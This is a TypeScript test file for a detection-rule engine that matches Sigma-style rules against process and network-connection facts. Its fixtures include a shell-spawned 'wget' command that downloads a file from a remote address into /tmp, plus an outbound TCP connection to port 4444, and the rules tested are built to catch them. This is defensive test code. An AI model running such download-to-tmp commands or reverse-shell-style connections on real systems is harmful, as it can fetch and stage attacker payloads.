import assert from 'node:assert/strict'
import test from 'node:test'
import type { FactOf } from '../../model/index.ts'
import { compileRules, createStream } from './compile.ts'
import { viewsOfFact } from './fact-event.ts'
import facts from './mapping/facts.json' with { type: 'json' }
import { parseRules } from './parse.ts'
import { factSchemas } from '../../model/index.ts'
import { processFact } from '../../test/facts.ts'

const process = processFact({
  pid: 7,
  startTime: 1,
  name: 'wget',
  path: '/usr/bin/wget',
  command: 'wget -O /tmp/x http://192.0.2.1/x',
})

const socket: FactOf<'socket'> = {
  kind: 'socket',
  protocol: 'tcp',
  state: 'established',
  localAddress: '192.0.2.9',
  localPort: 40_000,
  address: '192.0.2.1',
  port: 4444,
  inode: 1,
  scope: 'public',
}

for (const [name, logsource, detection, fact, expected] of [
  [
    'a process is a process_creation',
    '{ category: process_creation, product: linux }',
    '{ Image|endswith: /wget, ParentImage: /bin/sh }',
    process,
    true,
  ],
  [
    'and is itself',
    '{ category: process, product: davylamp }',
    '{ name: wget, parent.path: /bin/sh, exeDeleted: false }',
    process,
    true,
  ],
  [
    'but not of Windows',
    '{ category: process_creation, product: windows }',
    '{ Image|endswith: /wget }',
    process,
    false,
  ],
  ['what is absent is null', '{ category: process_creation }', '{ CurrentDirectory: null }', process, true],
  [
    'a kernel thread has no image',
    '{ category: process_creation }',
    '{ Image: null }',
    { ...process, path: undefined },
    false,
  ],
  [
    'a connection that was opened',
    '{ category: network_connection }',
    "{ DestinationPort: 4444, Initiated: 'true', Image: /bin/x }",
    socket,
    true,
  ],
  [
    'a connection that was accepted',
    '{ category: network_connection }',
    "{ Initiated: 'true' }",
    { ...socket, localPort: 22 },
    false,
  ],
  ['a name that nobody observed', '{ category: network_connection }', "{ DestinationHostname: '*' }", socket, false],
] as const) {
  test(name, () => {
    const { rules } = parseRules(
      `title: t\nid: t\nlogsource: ${logsource}\ndetection: { a: ${detection}, condition: a }`,
    )
    const linked = { parent: { path: '/bin/sh' }, owner: { path: '/bin/x' } }
    const views = viewsOfFact(fact as typeof process, linked)
    assert.equal(createStream(compileRules(rules)).push(views).length > 0, expected)
  })
}

test('the mapping names fields that there are', () => {
  for (const [kind, mappings] of Object.entries(facts)) {
    const schema = Object.entries(factSchemas).find(([name]) => name === kind)?.[1]
    for (const { fields } of mappings) {
      for (const field of Object.values(fields)) {
        // Prefixed ones are of the linked fact; these two are worked out or observed elsewhere.
        if (field.includes('.') || field === 'initiated' || field === 'resolvedName') continue
        assert.ok(schema && Object.hasOwn(schema.shape, field), `${kind} has no ${field}`)
      }
    }
  }
})
